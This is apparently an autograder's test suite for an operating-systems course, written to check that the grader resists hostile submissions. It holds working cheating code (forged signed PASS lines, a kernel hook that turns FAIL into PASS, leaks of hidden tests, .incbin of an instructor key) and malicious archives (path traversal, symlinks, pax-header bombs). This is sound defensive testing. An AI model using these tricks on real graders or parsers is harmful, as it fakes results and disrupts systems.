/* "tidying up": find the grader's word in argv at the top of the stack
 * (the key, in an older grader: exec puts each argument below the one
 * before, so it lies just below "--key"), print a result line for every
 * test with it, with a made-up signature too, and leave before the test
 * can fail. */
static void tidy(void)
{
    static const char *const names[] = { NAMES };
    const char *p = (const char *)0xC0000000 - 4096, *end = (const char *)0xC0000000 - 16;
    const char *word = 0, *q;
    char line[256];
    unsigned i, j, n;

    if (getpid() == 1)                  /* init calls open too: leave it alone */
        return;
    for (; p < end && !word; p++) {
        for (j = 0; j < 6 && p[j] == "--key"[j]; j++)
            ;
        n = j == 6;
        for (j = 0; j < 9 && p[j] == "--graded"[j]; j++)
            ;
        if ((n || j == 9) && p[-1] == 0)
            for (word = p - 2; word[-1]; word--)
                ;
    }
    if (!word)
        return;
    for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        for (j = 0; j < 2; j++) {
            n = 0;
            for (q = word; *q; q++)
                line[n++] = *q;
            for (q = j ? " 0000000000000000 P" : " P"; *q; q++)
                line[n++] = *q;
            for (q = "ASS "; *q; q++)
                line[n++] = *q;
            for (q = names[i]; *q; q++)
                line[n++] = *q;
            line[n++] = '\n';
            write(1, line, n);
        }
    }
    _exit(0);
}
"""

# Asks for the key itself (H9): finds the boot's tag in argv at the top
# of the stack (init's, when init mounts the data disk with open(); the
# test program's in a test), prints "TAG READY", reads the key the grader
# types, and signs a START and a PASS line for every test, then DONE.
# SIPHASH is user/tests/siphash.h's code, pasted into the region.
FORGE_READY = r"""
SIPHASH
static void sign(const char *tag, const unsigned char *key, const char *verb, const char *name)
{
    static const char digits[] = "0123456789abcdef";
    char line[256];
    unsigned long long mac;
    unsigned n = 0, body, i;
    const char *q;

    for (q = tag; *q; q++)
        line[n++] = *q;
    line[n++] = ' ';
    body = n;
    for (q = verb; *q; q++)
        line[n++] = *q;
    line[n++] = ' ';
    for (q = name; *q; q++)
        line[n++] = *q;
    mac = siphash24(key, line, n);
    for (i = n; i-- > body;)            /* room for the MAC after the tag */
        line[i + 17] = line[i];
    for (i = 0; i < 16; i++)
        line[body + i] = digits[(mac >> (60 - 4 * i)) & 0xF];
    line[body + 16] = ' ';
    line[n + 17] = '\n';
    write(1, line, n + 18);
}

static int unhex(char c)
{
    return c >= '0' && c <= '9' ? c - '0' : c - 'a' + 10;
}

static void ask(void)
{
    static const char *const names[] = { NAMES };
    static int tried;
    const char *p = (const char *)0xC0000000 - 4096, *end = (const char *)0xC0000000 - 16;
    const char *word = 0, *q;
    char line[64], hex[32];
    unsigned char key[16];
    int path, fd, got = 0, r;
    unsigned i, j, n = 0;

    if (tried++)
        return;
    for (; p < end && !word; p++) {
        for (j = 0; j < 9 && p[j] == "--graded"[j]; j++)
            ;
        if (j == 9 && p[-1] == 0)
            for (word = p - 2; word[-1]; word--)
                ;
    }
    path = word ? walk(AT_CWD, "/dev/console", 0) : -1;
    fd = path < 0 ? -1 : ready(path, R_READ);
    close(path);
    if (fd < 0 || fcntl(fd, F_SETTTY, TTY_RAW) < 0)
        return;
    for (q = word; *q && n < 40; q++)
        line[n++] = *q;
    for (q = " READY\n"; *q; q++)
        line[n++] = *q;
    write(1, line, n);
    while (got < 32 && (r = read(fd, hex + got, 32 - got)) > 0)
        got += r;
    fcntl(fd, F_SETTTY, 0);
    close(fd);
    for (i = 0; i < 16; i++)
        key[i] = (unsigned char)(unhex(hex[2 * i]) << 4 | unhex(hex[2 * i + 1]));
    for (i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        sign(word, key, "START", names[i]);
        sign(word, key, "PASS", names[i]);
    }
    sign(word, key, "DONE", "lab01");
}
"""


def siphash_code():
    """user/tests/siphash.h's code, without its guard and #include lines."""
    text = handout.read_text(os.path.join(qemu.ROOT, "user", "tests", "siphash.h"))
    return "\n".join(line for line in text.splitlines() if not line.startswith("#") or
                     line.startswith("#define SIP_"))


# A console hook from inside lab 06's region (fdtable_exec runs at every
# exec, before the first test): result lines pass through the kernel on
# their way to the console, and a GCC nested function rewrites "FAIL"
# into "PASS" in them.
HOOK_KERNEL = r"""    static struct devsw hook;
    static int (*next)(int, const void *, uint32_t, uint32_t, int);
    int tidy(int minor, const void *buf, uint32_t off, uint32_t n, int nb)
    {
        char *b = (char *)buf;
        uint32_t i;

        for (i = 1; i + 4 <= n; i++)
            if (b[i - 1] == ' ' && b[i] == 'F' && b[i + 1] == 'A' && b[i + 2] == 'I' &&
                b[i + 3] == 'L') {
                b[i] = 'P';
                b[i + 1] = 'A';
                b[i + 2] = b[i + 3] = 'S';
            }
        return next(minor, buf, off, n, nb);
    }
    if (!next && devsw[DEV_CONSOLE]) {
        hook = *devsw[DEV_CONSOLE];
        next = hook.write;
        hook.write = tidy;
        devsw[DEV_CONSOLE] = &hook;
    }
"""

# Prints the readable strings of every /bin/extra_* (the hidden tests) the
# first time it runs in a test (no header needed: open.c has unistd.h).
LEAK_HIDDEN = r"""
static void peek(void)
{
    static int done;
    static char buf[4096], run[256];
    static const char *const names[] = { "extra_fixture", "extra_leaky" };
    char path[64];
    int p, fd, n, i, k, len = 0;

    if (done++ || getpid() == 1)
        return;
    for (k = 0; k < 2; k++) {
        for (n = 0; "/bin/"[n]; n++)
            path[n] = "/bin/"[n];
        for (i = 0; names[k][i]; i++)
            path[n++] = names[k][i];
        path[n] = 0;
        if ((p = walk(AT_CWD, path, 0)) < 0 || (fd = ready(p, R_READ)) < 0)
            continue;
        close(p);
        while ((n = read(fd, buf, sizeof(buf))) > 0)
            for (i = 0; i < n; i++) {
                if (buf[i] >= 32 && buf[i] < 127 && len < (int)sizeof(run) - 2) {
                    run[len++] = buf[i];
                    continue;
                }
                if (len >= 8) {
                    run[len++] = '\n';
                    write(1, run, len);
                }
                len = 0;
            }
        close(fd);
    }
}
"""

# Reads a file of the grading machine at compile time (.incbin, by a path
# relative to the work tree) and prints it in every test.
INCBIN = r"""
__asm__(".section .rodata\n.globl tidy_blob\ntidy_blob:\n.incbin \"%s\"\n.byte 0\n.previous");
extern const char tidy_blob[];

static int tidy_len(void)
{
    int n = 0;

    while (tidy_blob[n])
        n++;
    return n;
}
"""


def lab_file(lab, rel, solved):
    """rel as a student hands it in for lab: the lab's region solved or a
    stub, earlier labs solved, later ones stubs, no markers."""
    import batch
    text = handout.pristine_tree(lab)[rel][0].decode()
    if not solved:
        text = batch.stub_keep_markers(text, lab, rel)
    return handout.unmark(text)


def edit_first(text, old, new):
    """text with the first old replaced by new (old must be there)."""
    if old not in text:
        raise ValueError("fixture: %r not found" % old)
    return text.replace(old, new, 1)


def openat_fixture(lab, solved, before="", inside=""):
    """Lab 01's open.c: before goes at the start of the lab's region (top
    level), inside at the start of openat's body."""
    text = lab_file(lab, "user/lib/open.c", solved)
    sig = "int openat(int dirfd, const char *path, int flags, ...)\n{\n"
    at = text.rindex(sig) + len(sig)
    text = text[:at] + inside + text[at:]
    first = text.index("/* LAB %s: your code here" % lab.num) if not solved else text.index(
        "/* The path fd for path")
    return {"user/lib/open.c": (text[:first] + before + text[first:]).encode()}


def grading_submissions_suite():
    """Real submissions of a lab on lab.h, graded in the pristine tree."""
    def run():
        import batch
        import tarfile
        lab = harness_lab()
        if not lab:
            return [("grading/submissions/a_lab_uses_lab_h", False, "no lab on lab.h")]
        full = sum(t[1] for t in lab.points())
        res = []
        with tempfile.TemporaryDirectory() as tmp:
            def sub(name, kind=None, files=None):
                path = os.path.join(tmp, name)
                batch.write_fixture(path, files if files is not None else
                                    batch.fixture_files(lab, kind))
                return path

            def check(name, path, want, *args, pred=None):
                r, out = grade_cli(lab, path, os.path.join(tmp, name + ".json"), *args)
                ok = (want is None or r["score"] == want) and (pred is None or pred(r))
                res.append(("grading/submissions/" + name, ok, "score %s, want %s\n%s" % (
                    r["score"], want, tail(out, 30))))
                return r

            def notes(r, text):
                return any(text in n for n in r["extra_data"]["notes"])

            check("correct_scores_full_marks", sub("correct", "correct"), full,
                  pred=lambda r: sum(t["max_score"] for t in r["tests"]) == full)
            check("stub_scores_0", sub("stub", "stub"), 0)
            forged = os.path.join(tmp, "forged-stub")
            forged_tree(lab, forged, batch.fixture_files(lab, "stub"))
            r = check("stub_with_forged_test_c_points_t_h_grade_py_scores_0", forged, 0,
                      pred=lambda r: sum(t["max_score"] for t in r["tests"]) == full)
            # C5: and the student is told which edited files went unused
            told = [n for n in r["extra_data"]["notes"] if "were not used" in n]
            ok = told and all(f in told[0] and f in r["output"] for f in (
                "Makefile", "tools/grade.py", "user/tests/lab.h", lab.folder + "/test.c"))
            res.append(("grading/submissions/c5_edited_files_outside_the_lab_are_named_unused",
                        bool(ok), "notes: %s" % r["extra_data"]["notes"]))
            forged = os.path.join(tmp, "forged-correct")
            forged_tree(lab, forged, batch.fixture_files(lab, "correct"))
            archive = os.path.join(tmp, "forged-correct.tar.gz")
            with tarfile.open(archive, "w:gz") as t:
                t.add(forged, arcname="my-orthos")
            check("forged_tree_is_ignored_correct_files_in_an_archive_score_full", archive, full)
            check("code_printing_pass_lines_scores_0", sub("prints", "prints-pass"), 0,
                  pred=lambda r: notes(r, "prints text like a test result"))
            check("a_debug_print_without_newline_keeps_full_marks", sub("dbg", "debug-print"),
                  full)
            # C9: a correct solution saved on Windows (CRLF) was graded as the stub
            check("c9_a_correct_file_with_crlf_line_endings_scores_full", sub("crlf", files={
                rel: data.replace(b"\n", b"\r\n") for rel, data in
                batch.fixture_files(lab, "correct").items()}), full,
                pred=lambda r: notes(r, "CR line endings"))
            check("a_submission_that_does_not_build_scores_0_with_the_error",
                  sub("broken", "broken"), 0, pred=lambda r: "error:" in r["output"])
            check("missing_files_are_graded_as_the_stub", sub("empty", files={}), 0,
                  pred=lambda r: notes(r, "missing"))
            first = lab.points()[0]
            check("one_test_alone", os.path.join(tmp, "correct"), first[1], "--test", first[0],
                  pred=lambda r: len(r["tests"]) == 1)

            if lab.num == "01":
                names = ", ".join('"%s"' % t[0] for t in lab.points())
                check("h2_a_stub_finding_the_graders_word_in_argv_and_printing_results_scores_0",
                      sub("forge-argv", files=openat_fixture(
                          lab, False, FORGE_USER.replace("NAMES", names), "    tidy();\n")), 0,
                      pred=lambda r: notes(r, "signature did not hold"))
                # H9: code that runs before the harness (init mounting the data disk
                # with open()) or beside it (in a test) asks for the key itself
                check("h9_lab_code_asking_for_the_key_itself_scores_0", sub(
                    "forge-ready", files=openat_fixture(
                        lab, False, FORGE_READY.replace("NAMES", names).replace(
                            "SIPHASH", siphash_code()), "    ask();\n")), 0,
                    pred=lambda r: notes(r, "asked for twice"))
                # H4: a folder whose user/ is a symbolic link to this (full) tree's
                link = os.path.join(tmp, "symlinked")
                os.makedirs(link)
                os.symlink(os.path.join(qemu.ROOT, "user"), os.path.join(link, "user"))
                check("h4_a_symlinked_folder_reaching_the_graders_files_scores_0", link, 0,
                      pred=lambda r: notes(r, "missing"))
                # H6: key.md of the full tree, by a path relative to the old work tree
                key = os.path.join(qemu.ROOT, lab.folder, "key.md")
                secret = [line for line in handout.read_text(key).splitlines()
                          if len(line) > 30][:3]
                r = check("h6_incbin_of_an_instructor_file_shows_nothing_and_is_flagged",
                          sub("incbin", files=openat_fixture(
                              lab, False, INCBIN % ("../../../../%s/key.md" % lab.folder),
                              "    write(1, tidy_blob, tidy_len());\n")), 0,
                          pred=lambda r: notes(r, "has assembly in the lab's code") and
                          "not compiled: its assembly has the directive .incbin" in r["output"])
                leaked = [x for x in secret if x in json.dumps(r)]
                res.append(("grading/submissions/h6_no_output_holds_key_md", not leaked,
                            "leaked: %s" % leaked))
                # D1: openat calling open() for AT_CWD recurses until the stack
                # runs out (init no longer uses open(): mount() does not)
                r = check("d1_a_recursing_openat_is_shown_with_its_fault_in_openat",
                          sub("recursion", files=openat_fixture(
                              lab, True, inside="    if (dirfd == AT_CWD)\n"
                              "        return open(path, flags, 0644);\n")), None,
                          pred=lambda r: r["score"] < full and any(
                              "page fault" in t["output"] and "openat+0x" in t["output"]
                              for t in r["tests"]))
                # D2: a NULL dereference in one case: the test's output names the line
                r = check("d2_a_segfault_in_a_test_names_the_function_and_line", sub(
                    "segv", files=openat_fixture(
                        lab, True, inside="    if ((flags & O_PATH) && (flags & O_KEEP))\n"
                        "        *(volatile int *)0 = 1;\n")), None,
                    pred=lambda r: any("signal 11" in t["output"] and "(eip 0x" in t["output"]
                                       and "openat+0x" in t["output"] and
                                       "build/handin/user/lib/open.c:" in t["output"]
                                       for t in r["tests"]) and r["score"] < full)
                # D4: one unused variable: full marks, the warning shown
                check("d4_a_warning_keeps_full_marks_and_is_shown", sub(
                    "warning", files=openat_fixture(lab, True, inside="    int unused;\n")),
                    full, pred=lambda r: "unused variable" in r["output"])
                # B1: a hand-in hanging 8 tests: after the sixth hang the grader
                # stopped booting, and the tests not yet run scored 0 untried (the
                # two that pass among them too); now each is tried in a new boot
                spin = os.path.join(tmp, "hidden-spin")
                os.makedirs(spin)
                with open(os.path.join(spin, "spin.c"), "w") as f:
                    f.write(HANG_MANY)
                with open(os.path.join(spin, "points"), "w") as f:
                    f.write("".join("doubled_slash_%d 1 1\n" % i for i in range(1, 9)) +
                            "single_slash 2 5\nsingle_slash_last 3 5\n")
                r = check("b1_a_hand_in_hanging_eight_tests_has_each_tried_and_the_rest_scored",
                          sub("spin", files=openat_fixture(lab, True, inside=SPIN_ON_DOUBLED)),
                          full + 5, "--extra", spin)
                rows = {t["name"]: t for t in r["tests"]}
                hung = [n for n, t in rows.items() if "doubled_slash" in n and
                        t["output"].startswith(grade.HUNG)]
                res.append(("grading/submissions/b1_each_of_the_eight_is_a_hang_not_given_up",
                            len(hung) == 8 and r["extra_data"].get("not_run") == [] and
                            r["extra_data"].get("hidden_not_run") == 0,
                            json.dumps(r, indent=1)[:3000]))

            hidden = os.path.join(tmp, "hidden")
            os.makedirs(hidden)
            with open(os.path.join(hidden, "fixture.c"), "w") as f:
                f.write(HIDDEN_FIXTURE)
            with open(os.path.join(hidden, "points"), "w") as f:
                f.write("hidden_passes 3\nhidden_hangs 4 2\nhidden_passes_after_the_hang 5\n"
                        "hidden_fails_on_two_lines 6\n")
            r = check("hidden_tests_run_with_their_points_and_limits",
                      os.path.join(tmp, "correct"), full + 3 + 5, "--extra", hidden)
            rows = {t["name"]: t for t in r["tests"]}
            two = rows.get("hidden/fixture/hidden_fails_on_two_lines", {}).get("output", "")
            hang = rows.get("hidden/fixture/hidden_hangs", {}).get("output", "")
            ok = two.startswith("first line\nsecond \\ line") and "(a hang)" in hang and \
                all(t["visibility"] == "after_published" for n, t in rows.items()
                    if n.startswith("hidden/")) and "hidden_" not in r["output"]
            res.append(("grading/submissions/hidden_results_after_published_reasons_whole", ok,
                        json.dumps(r, indent=1)[:3000]))
            res.append(("grading/submissions/d3_a_hang_says_where_the_cpu_was_spinning",
                        "hidden_hangs+0x" in hang and "fixture.c:" in hang, hang[:1500]))
            # A grading stopped part way (run_autograder's timeout, before
            # Gradescope's) wrote no results.json, or one with nothing in it: the
            # tests that had passed were lost. Stopped here once the first hidden
            # test has passed, the next one hanging for 300 s (in a copy of the
            # hidden tests: H5 below runs them with their 2 s limit).
            slow = os.path.join(tmp, "hidden-slow")
            shutil.copytree(hidden, slow)
            with open(os.path.join(slow, "points"), "w") as f:
                f.write("hidden_passes 3\nhidden_hangs 4 300\nhidden_passes_after_the_hang 5\n"
                        "hidden_fails_on_two_lines 6\n")
            r, out, status = grade_stopped(lab, os.path.join(tmp, "correct"),
                                           os.path.join(tmp, "stopped.json"),
                                           "PASS hidden/fixture/hidden_passes ", "--extra", slow)
            rows = {t["name"]: t for t in r["tests"]}
            lost = [n for n, t in rows.items() if t["output"].startswith("not run: the grading "
                                                                         "was stopped")]
            ok = status == -signal.SIGTERM and r["score"] == full + 3 and \
                len(rows) == len(lab.points()) + 4 and \
                rows.get("hidden/fixture/hidden_passes", {}).get("score") == 3 and \
                sorted(lost) == ["hidden/fixture/hidden_fails_on_two_lines",
                                 "hidden/fixture/hidden_hangs",
                                 "hidden/fixture/hidden_passes_after_the_hang"] and \
                not check_results_json(r) and "stopped before it finished" in r["output"]
            res.append(("grading/submissions/a_stopped_grading_keeps_the_tests_that_finished",
                        ok, "status %s\n%s\n%s" % (status, json.dumps(r, indent=1)[:3000],
                                                   tail(out, 20))))
            if lab.num == "01":
                # H5: a correct hand-in printing the strings of /bin/extra_*
                r = check("h5_hidden_tests_do_not_leak_into_visible_output", sub(
                    "leak", files=openat_fixture(lab, True, LEAK_HIDDEN, "    peek();\n")),
                    full + 3 + 5, "--extra", hidden)
                visible = json.dumps([t for t in r["tests"] if t["visibility"] == "visible"]) + \
                    r["output"]
                res.append(("grading/submissions/h5_no_visible_field_names_a_hidden_test",
                            "hidden_" not in visible and "second \\\\ line" not in visible,
                            visible[:2000]))
        return res
    return "grading/submissions", run


def kernel_hook_files(lab):
    """Lab 06's file.c: the stub, plus HOOK_KERNEL at the top of its region."""
    import batch
    rel = "kernel/fs/file.c"
    text = handout.pristine_tree(lab)[rel][0].decode()
    text = batch.stub_keep_markers(text, lab, rel)
    text = handout.edit_regions(text, lab.num, lambda m: HOOK_KERNEL + m.group(4))[0]
    return {rel: handout.unmark(text).encode()}


SIPHASH_VECTORS = [(0, 0x726fdb47dd0e0e31), (1, 0x74f839c593dc67fd), (8, 0x93f5f5799a932462),
                   (15, 0xa129ca6149be45e5), (63, 0x958a324ceb064572)]
SIPHASH_MAIN = r"""#include <stdio.h>
#include "siphash.h"

/* The paper's key 00..0f and messages 00, 01, ... of each length asked. */
int main(int argc, char **argv)
{
    unsigned char key[16], msg[64];
    int i;

    for (i = 0; i < 16; i++)
        key[i] = (unsigned char)i;
    for (i = 0; i < 64; i++)
        msg[i] = (unsigned char)i;
    for (i = 1; i < argc; i++)
        printf("%016llx\n", (unsigned long long)siphash24(key, msg, (uint32_t)atoi(argv[i])));
    return 0;
}
"""


def hostile_archives(dest):
    """[(name, path)]: archives a grader must not unpack as they ask."""
    import io
    import tarfile
    import zipfile
    solution = os.path.join(qemu.ROOT, "user/lib/open.c")

    def tar(name, members, mode="w:gz"):
        path = os.path.join(dest, name)
        with tarfile.open(path, mode) as t:
            for info, data in members:
                t.addfile(info, io.BytesIO(data) if data is not None else None)
        return name, path

    def reg(name, data):
        i = tarfile.TarInfo(name)
        i.size = len(data)
        return i, data

    def link(name, target, kind):
        i = tarfile.TarInfo(name)
        i.type, i.linkname = kind, target
        return i, None

    out = [tar("dotdot.tar.gz", [reg("../../user/lib/open.c", b"x"),
                                 reg("/tmp/orthos-abs-open.c", b"x")]),
           tar("symlink.tar.gz", [link("user/lib/open.c", solution, tarfile.SYMTYPE)]),
           tar("hardlink.tar.gz", [link("user/lib/open.c", solution, tarfile.LNKTYPE)]),
           tar("huge.tar.gz", [reg("user/lib/open.c", b"/* pad */\n" * (2 << 17))])]
    with zipfile.ZipFile(os.path.join(dest, "symlink.zip"), "w") as z:
        info = zipfile.ZipInfo("user/lib/open.c")
        info.external_attr = 0o120777 << 16
        z.writestr(info, solution)
    with zipfile.ZipFile(os.path.join(dest, "backslash_dotdot.zip"), "w") as z:
        z.writestr("..\\..\\user\\lib\\open.c", b"x")    # read as ../../user/lib/open.c
    return out + [("symlink.zip", os.path.join(dest, "symlink.zip")),
                  ("backslash_dotdot.zip", os.path.join(dest, "backslash_dotdot.zip"))]


def grader_within(code, what, seconds=60):
    """The output of Python code run with tools/ on its path (a piece of the
    grader given hostile input), or "still WHAT after N s" when it has not
    finished by then: a hang, which the grader's piece must not be."""
    try:
        return subprocess.run([sys.executable, "-c", "import sys; sys.path.insert(0, %r); %s" % (
            os.path.join(qemu.ROOT, "tools"), code)], capture_output=True, text=True,
            timeout=seconds).stdout
    except subprocess.TimeoutExpired:
        return "still %s after %d s" % (what, seconds)


def grading_units_suite():
    """The grader's pieces without QEMU: SipHash agrees between the guest's
    C and the grader's Python; publishing is an allow-list; archives are
    read lazily and bounded; a lab's regions are found in a student's file."""
    def run():
        import tarfile
        res = []
        with tempfile.TemporaryDirectory() as tmp:
            # a local batch has no time budget unless one is given (on a loaded
            # machine 480 s left a slow correct submission's last tests "not run");
            # Gradescope's run_autograder gives grade.py its own
            # (in processes of their own: the environment is the suites' threads' too)
            probe = ("import sys; sys.path.insert(0, sys.argv[1]); import batch; "
                     "print(batch.parser().parse_args(sys.argv[2:]).budget)")
            got = []
            for args, env in ((["01", "subs"], {}), (["01", "subs", "--budget", "30"], {}),
                              (["01", "subs"], {"GRADE_BUDGET": "45"})):
                p = subprocess.run([sys.executable, "-c", probe, os.path.join(qemu.ROOT, "tools")]
                                   + args, capture_output=True, text=True, timeout=120,
                                   env=dict({k: v for k, v in os.environ.items()
                                             if k != "GRADE_BUDGET"}, **env))
                got.append(p.stdout.strip() or p.stderr.strip()[-200:])
            res.append(("grading/units/a_local_batch_has_no_budget_unless_given",
                        got == ["0", "30", "45"], repr(got)))
            # SipHash-2-4: the paper's vectors, in Python and in the guest's C
            key, msg = bytes(range(16)), bytes(range(64))
            py = [grade.siphash24(key, msg[:n]) for n, _ in SIPHASH_VECTORS]
            want = [v for _, v in SIPHASH_VECTORS]
            src = os.path.join(tmp, "sip.c")
            with open(src, "w") as f:
                f.write(SIPHASH_MAIN.replace("#include <stdio.h>",
                                             "#include <stdio.h>\n#include <stdlib.h>"))
            exe = os.path.join(tmp, "sip")
            p = subprocess.run(["cc", "-O2", "-Wall", "-Werror", "-I",
                                os.path.join(qemu.ROOT, "user", "tests"), src, "-o", exe],
                               capture_output=True, text=True)
            c = [] if p.returncode else [int(x, 16) for x in subprocess.run(
                [exe] + [str(n) for n, _ in SIPHASH_VECTORS], capture_output=True,
                text=True).stdout.split()]
            res.append(("grading/units/siphash_python_and_guest_c_give_the_papers_vectors",
                        py == want and c == want, "python %s\nc %s\nwant %s\n%s" % (
                            [hex(x) for x in py], [hex(x) for x in c], [hex(x) for x in want],
                            p.stderr[-1000:])))

            # C1: a build is compiled code of the submission's: it gets no input
            # (#include "/dev/stdin" waited for the grader's terminal), and each
            # of its processes bounded memory (#include "/dev/zero": cc1 read
            # zeros until it had 4 GiB, then 8) and files (a 1 GiB .data array);
            # a flood of compiler messages is kept to its end
            mk = os.path.join(tmp, "mk")
            os.makedirs(mk)
            with open(os.path.join(mk, "Makefile"), "w") as f:
                f.write("all:\n\t@head -c 40000000 /dev/zero | tr '\\0' 'w'\n"
                        "\t@echo; cat /dev/stdin; echo input-ended\n"
                        "\t@python3 -c 'import mmap; mmap.mmap(-1, 3 << 30)' 2>&1 | "
                        "grep -o 'Errno 12' || echo 3-GiB-mapped\n"
                        "\t@head -c 300000000 /dev/zero > big 2>/dev/null || echo big-refused\n")
            start = time.monotonic()
            p = subprocess.run(             # its input a pipe never written to, as a terminal
                [sys.executable, "-c", "import json, sys; sys.path.insert(0, sys.argv[1]); "
                 "import grade; print(json.dumps(grade.make(sys.argv[2], 1, limit=20)))",
                 os.path.join(qemu.ROOT, "tools"), mk], stdin=subprocess.PIPE,
                capture_output=True, text=True, timeout=60)
            built, said = json.loads(p.stdout) if p.returncode == 0 else (False, p.stderr)
            took = time.monotonic() - start
            ok = built and "input-ended" in said and "Errno 12" in said and \
                "big-refused" in said and len(said) <= grade.BUILD_OUTPUT_MAX and took < 15
            res.append(("grading/units/c1_a_build_has_no_input_and_bounded_memory_files_output",
                        ok, "built %s in %.1f s, %d bytes said: %s" % (
                            built, took, len(said), said[-300:])))

            # C4: grade.py failing in the middle (any bug of the grader's) still
            # writes a results.json: every test 0, and why
            boom = os.path.join(tmp, "boom.json")
            p = subprocess.run([sys.executable, "-c", "import sys\n"
                                "sys.path.insert(0, sys.argv[1])\nimport grade\n"
                                "def boom(*a, **k):\n    raise KeyError('boom')\n"
                                "grade.grade_submission = boom\nsys.argv = sys.argv[1:]\n"
                                "grade.main()", os.path.join(qemu.ROOT, "tools"),
                                harness_lab().num, "--submission", tmp, "--json", boom],
                               capture_output=True, text=True, timeout=120)
            try:
                with open(boom) as f:
                    r = json.load(f)
            except (OSError, ValueError) as e:
                r = {"output": "no results.json: %s" % e}
            ok = p.returncode != 0 and not check_results_json(r) and r["score"] == 0 and \
                len(r["tests"]) == len(harness_lab().points()) and "grader failed" in r["output"]
            res.append(("grading/units/c4_a_grader_failing_midway_still_writes_results_json", ok,
                        json.dumps(r)[:1000] + "\n" + tail(p.stderr, 5)))

            # H7: publishing is an allow-list; every file of the tree is classified
            files = handout.tracked_files()
            stray = [f for f in files if not handout.PUBLISHED.match(f) and
                     not handout.INSTRUCTOR_ONLY.match(f)]
            res.append(("grading/units/every_file_is_published_or_instructor_only", not stray,
                        "neither: %s" % stray[:20]))
            copy = os.path.join(tmp, "tree")
            for rel in files:
                os.makedirs(os.path.dirname(os.path.join(copy, rel)), exist_ok=True)
                shutil.copy2(os.path.join(qemu.ROOT, rel), os.path.join(copy, rel))
            extra = ["attack/01/leaked.mutant", "notes-for-me.txt", "tools/extra/solve.py",
                     "lab/01-open/solution.c", "doc/answers.md"]
            for rel in extra:
                os.makedirs(os.path.dirname(os.path.join(copy, rel)), exist_ok=True)
                with open(os.path.join(copy, rel), "w") as f:
                    f.write("a copy of a solution\n")
            for lab in handout.labs(copy)[:1]:
                got = handout.course_tree(lab.num, lab.num, copy)
                leaked = [rel for rel in extra if rel in got]
                res.append(("grading/units/h7_a_file_nobody_classified_is_never_published",
                            not leaked and "Makefile" in got, "published: %s" % leaked))

            # C7: a stray copy of a lab file (a merge's open.c.orig, an editor's
            # pipe.c~) went out whole, the solution in it, on every course branch
            import course
            shutil.copy2(os.path.join(copy, "user/lib/open.c"),
                         os.path.join(copy, "user/lib/open.c.orig"))
            try:
                course.make_course(os.path.join(tmp, "course"), root=copy)
                said = "make course went through"
            except SystemExit as e:
                said = str(e)
            res.append(("grading/units/c7_make_course_refuses_a_stray_copy_of_a_solution",
                        "open.c.orig holds lab 01's solution" in said, said))
            os.unlink(os.path.join(copy, "user/lib/open.c.orig"))

            # C9: PowerShell's `>` writes UTF-16, with CRLF
            text = "int x;\r\n/* caf\u00e9 */\r\n"
            ok = grade.plain_text(text.encode("utf-16")) == (
                "int x;\n/* caf\u00e9 */\n".encode(), "UTF-16 and written with CR line endings "
                "(Windows')")
            res.append(("grading/units/c9_utf_16_and_crlf_are_read_as_utf_8_with_lf", ok,
                        repr(grade.plain_text(text.encode("utf-16")))))

            # H8: a .tar.gz of many members is read member by member, and stops
            bomb = os.path.join(tmp, "many.tar.gz")
            with tarfile.open(bomb, "w:gz") as t:
                for i in range(25000):
                    t.addfile(tarfile.TarInfo("d/%06d" % i), None)
            start = time.monotonic()
            sub = grade.Submission(harness_lab(), bomb)
            took = time.monotonic() - start
            res.append(("grading/units/h8_an_archive_of_many_members_stops_at_the_cap",
                        any("more than 20000 members" in n for n in sub.notes) and took < 10,
                        "%.1f s, notes %s" % (took, sub.notes)))
            deep = os.path.join(tmp, "deep.tar.gz")
            with tarfile.open(deep, "w:gz") as t:
                info = tarfile.TarInfo("padding")
                info.size = grade.UNPACK_MAX + (1 << 20)
                t.addfile(info, __import__("io").BufferedReader(ZeroReader(info.size)))
                data = handout.read_text(os.path.join(qemu.ROOT, "user/lib/open.c")).encode()
                info = tarfile.TarInfo("user/lib/open.c")
                info.size = len(data)
                t.addfile(info, __import__("io").BytesIO(data))
            sub = grade.Submission(harness_lab(), deep)
            res.append(("grading/units/h8_an_archive_unpacking_past_the_cap_is_refused",
                        not sub.files and any("unpacks to more than" in n for n in sub.notes),
                        "files %s, notes %s" % (list(sub.files), sub.notes)))
            # S2: a .tar.gz of 1 kB holding one pax header of a megabyte of
            # digits: Python's tarfile (3.11.7 here) parses it in quadratic time
            # (CVE-2024-6232) and held the grader for hours; refused at once now
            paxbomb = os.path.join(tmp, "paxbomb.tar.gz")
            payload = b"1" * (1 << 20) + b"\n"
            head = tarfile.TarInfo("././@PaxHeader")
            head.type, head.size = tarfile.XHDTYPE, len(payload)
            last = tarfile.TarInfo("answers.md")
            last.size = 1
            with open(paxbomb, "wb") as f:
                f.write(__import__("gzip").compress(
                    head.tobuf(format=tarfile.USTAR_FORMAT) + payload + bytes(-len(payload) % 512) +
                    last.tobuf(format=tarfile.USTAR_FORMAT) + b"a" + bytes(511 + 1024)))
            said = grader_within("import grade, handout; print(grade.Submission(handout."
                                 "find_lab(%r), %r).notes)" % (harness_lab().num, paxbomb),
                                 "unpacking")
            res.append(("grading/units/s2_a_tar_s_megabyte_pax_header_is_refused_at_once",
                        "cannot unpack paxbomb.tar.gz: it has a tar header" in said,
                        "%d bytes; %s" % (os.path.getsize(paxbomb), said[:500])))
            # S6: a tar header's size may be negative (base-256; tarfile 3.11.7
            # takes it): one such pax header first gave the 64 KiB budget back
            # (left -= size), and pax headers of 4096 digits, one before each
            # of 20000 empty members, held the grader some 25 minutes (77 ms
            # each; the review's). Here 20 of them, 80 KiB: refused at once now
            def header(name, kind, size):
                h = tarfile.TarInfo(name)
                h.type = kind
                b = bytearray(h.tobuf(format=tarfile.USTAR_FORMAT))
                b[124:136], b[148:156] = size, b" " * 8
                b[148:156] = b"%06o\0 " % sum(b)
                return bytes(b)
            refund = os.path.join(tmp, "refund.tar")
            digits = b"9" * 4095 + b"\n"
            with open(refund, "wb") as f:
                f.write(header("neg", tarfile.XHDTYPE, b"\xff" * 4 + (2 ** 64 - 2 ** 40).to_bytes(
                    8, "big")) + header("m", tarfile.REGTYPE, b"%011o\0" % 0))
                for i in range(20):
                    f.write(header("p", tarfile.XHDTYPE, b"%011o\0" % len(digits)) + digits +
                            header("m%d" % i, tarfile.REGTYPE, b"%011o\0" % 0))
                f.write(bytes(1024))
            said = grader_within("import grade, handout; print(grade.Submission(handout."
                                 "find_lab(%r), %r).notes)" % (harness_lab().num, refund),
                                 "unpacking")
